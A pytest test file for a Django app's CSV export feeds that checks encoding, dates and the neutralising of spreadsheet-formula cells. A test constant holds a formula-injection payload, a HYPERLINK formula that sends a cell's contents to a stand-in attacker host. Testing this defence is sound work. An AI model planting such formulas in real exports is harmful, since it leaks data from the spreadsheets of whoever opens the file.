"""CSV feeds: one row per thing, a header, UTF-8 with a byte-order mark, ISO dates, and no cell
a spreadsheet would run as a formula (docs/security.md #11)."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from g2g.tenancy.models import Role
from tests.factories import ActionFactory, ProgressUpdateFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


def read_csv(response) -> list[dict]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    raw = response.content
    assert raw.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def feed(client, world, bearer, name):
    return client.get(
        f"/api/v1/{world.authority.slug}/feeds/{name}",
        headers=bearer(world.users[Role.VIEWER]),
    )


def test_actions_feed_one_row_per_action_with_text_neutralised(client, world, bearer):
    ActionFactory(
        priority=world.led_action.priority,
        title=HOSTILE,
        timescale_text="-ongoing",
        start=date(2024, 4, 1),
        sources=["@ILAC"],
    )
    rows = read_csv(feed(client, world, bearer, "actions.csv"))
    assert len(rows) == 3
    hostile = next(row for row in rows if row["title"].endswith(HOSTILE))
    assert hostile["title"] == "'" + HOSTILE
    assert hostile["timescale"] == "'-ongoing"
    assert hostile["sources"] == "'@ILAC"
    assert hostile["start"] == "2024-04-01"
    assert hostile["overdue"] in ("true", "false")


def test_updates_feed_neutralises_tabs_and_returns_too(client, world, bearer):
    ProgressUpdateFactory(
        action=world.other_action,
        period=date(2024, 5, 1),
        narrative="\t=1+1",
        evidence_text="\r@SUM(A1)",
        action_rating="amber",
    )
    rows = read_csv(feed(client, world, bearer, "updates.csv"))
    assert [row["period"] for row in rows] == [world.update.period.isoformat(), "2024-05-01"]
    assert rows[1]["narrative"] == "'\t=1+1"
    assert rows[1]["evidence_text"] == "'\r@SUM(A1)"
    assert rows[1]["action_rating"] == "amber"


def test_measure_values_feed_keeps_numbers_as_numbers(client, world, bearer):
    world.measure.values.create(period=date(2025, 1, 1), value=Decimal("-2.50"), note="+44 1")
    world.measure.values.create(period=date(2025, 2, 1), value=Decimal("61.25"), note="Fine")
    rows = read_csv(feed(client, world, bearer, "measure-values.csv"))
    assert [(row["period"], row["value"], row["note"]) for row in rows] == [
        ("2025-01-01", "-2.50", "'+44 1"),
        ("2025-02-01", "61.25", "Fine"),
    ]
    assert rows[0]["measure_name"] == world.measure.name
